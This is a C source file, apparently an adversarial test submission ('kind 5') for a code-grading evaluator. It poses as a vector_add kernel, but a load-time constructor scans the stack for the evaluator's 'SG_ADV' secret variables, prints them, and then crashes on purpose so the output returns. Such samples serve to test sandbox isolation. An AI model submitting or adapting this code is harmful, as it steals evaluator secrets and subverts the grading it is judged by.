/* scan_stack_for_secrets: kind 5: scans its whole stack (where a forked child would still hold its parent's environment strings) for the evaluator's variables and prints what it finds, then crashes so the output comes back. */
static char maps[65536];
static unsigned long hex(const char **p) {
  unsigned long v = 0;
  for (;; (*p)++) {
    char c = **p;
    int d = c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
    if (d < 0) return v;
    v = v * 16 + (unsigned long)d;
  }
}
__attribute__((constructor)) static void ctor(void) {
  long fd = SYS4(NR_openat, -100, "/proc/self/maps", 0, 0);
  if (fd < 0) return;
  long len = 0, r;
  while ((r = SYS3(NR_read, fd, maps + len, sizeof maps - 1 - len)) > 0) len += r;
  maps[len] = 0;
  for (const char *line = maps; *line;) {
    const char *p = line;
    unsigned long lo = hex(&p); p++;
    unsigned long hi = hex(&p);
    const char *end = line;
    while (*end && *end != '\n') end++;
    int is_stack = 0;
    for (const char *q = line; q + 7 <= end; q++)
      if (q[0] == '[' && q[1] == 's' && q[2] == 't' && q[3] == 'a' && q[4] == 'c' && q[5] == 'k')
        is_stack = 1;
    if (is_stack)
      for (const char *s = (const char *)lo; s + 8 < (const char *)hi; s++)
        if (s[0] == 'S' && s[1] == 'G' && s[2] == '_' && s[3] == 'A' && s[4] == 'D' && s[5] == 'V')
          SYS3(NR_write, 2, s, 60);
    line = *end ? end + 1 : end;
  }
  adv_print("stack scanned\n");
}
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  (void)a, (void)b, (void)out, (void)alpha, (void)n;
  *(volatile int *)0 = 1;
}
